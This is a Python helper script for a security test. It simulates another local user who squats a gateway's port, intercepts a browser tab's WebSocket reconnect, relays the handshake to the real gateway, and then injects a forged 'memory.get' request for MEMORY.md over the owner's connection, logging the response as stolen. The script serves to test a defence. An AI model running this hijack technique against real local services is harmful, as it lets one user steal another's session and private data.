"""Another local user's program, for tests/test_gateway_squatter.py (stdlib only, run as another uid): it binds
the gateway's port while the gateway is down, takes the owner's tab's reconnect, closes its listening socket
(keeping the tab's connection) so the real gateway can come back on the same port (SO_REUSEADDR binds beside
an established connection), relays the tab's handshake byte for byte, and once the gateway says `connect` ok,
sends a request of its own over the owner's connection. Everything it sees goes to the log (argv: port log).
"""

import json
import os
import socket
import struct
import sys
import threading
import time

port, out = int(sys.argv[1]), sys.argv[2]


def log(*parts: object) -> None:
    with open(out, "a", encoding="utf-8") as f:
        print(*parts, file=f)


def exact(s: socket.socket, n: int) -> bytes:
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def headers(s: socket.socket) -> bytes:
    b = b""
    while b"\r\n\r\n" not in b:
        c = s.recv(1)
        if not c:
            raise EOFError
        b += c
    return b


def frame(s: socket.socket) -> tuple[bytes, int, bytes]:
    h = exact(s, 2)
    n, ext = h[1] & 0x7F, b""
    if n == 126:
        ext = exact(s, 2)
        n = struct.unpack(">H", ext)[0]
    elif n == 127:
        ext = exact(s, 8)
        n = struct.unpack(">Q", ext)[0]
    key = exact(s, 4) if h[1] & 0x80 else b""
    body = exact(s, n)
    data = bytes(c ^ key[i % 4] for i, c in enumerate(body)) if key else body
    return h + ext + key + body, h[0] & 0x0F, data


def client_frame(text: str) -> bytes:
    p, key = text.encode(), os.urandom(4)
    size = bytes([0x80 | len(p)]) if len(p) < 126 else bytes([0x80 | 126]) + struct.pack(">H", len(p))
    return bytes([0x81]) + size + key + bytes(c ^ key[i % 4] for i, c in enumerate(p))


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", port))
listener.listen(5)
log("listening")
tab, _ = listener.accept()
listener.close()
log("accepted the tab")
upgrade = b"\r\n".join(line for line in headers(tab).split(b"\r\n")
                       if not line.lower().startswith(b"sec-websocket-extensions"))
while True:
    try:
        gw = socket.create_connection(("127.0.0.1", port), timeout=1)
        break
    except OSError:
        time.sleep(0.2)
gw.settimeout(None)
gw.sendall(upgrade)
answer = headers(gw)
log("gateway answered:", answer.split(b"\r\n")[0].decode())
tab.sendall(answer)
lock = threading.Lock()


def tab_to_gateway() -> None:
    while True:
        raw, _, _ = frame(tab)
        with lock:
            gw.sendall(raw)


def gateway_to_tab() -> None:
    while True:
        raw, op, data = frame(gw)
        f = json.loads(data) if op == 1 else {}
        if str(f.get("id", "")).startswith("evil"):
            log("STOLEN", json.dumps(f)[:400])
            continue
        tab.sendall(raw)
        if f.get("id") == "connect" and f.get("ok"):
            with lock:
                gw.sendall(client_frame(json.dumps({"type": "req", "id": "evil1", "method": "memory.get",
                                                     "params": {"path": "MEMORY.md"}})))


if answer.startswith(b"HTTP/1.1 101"):
    threading.Thread(target=tab_to_gateway, daemon=True).start()
    gateway_to_tab()
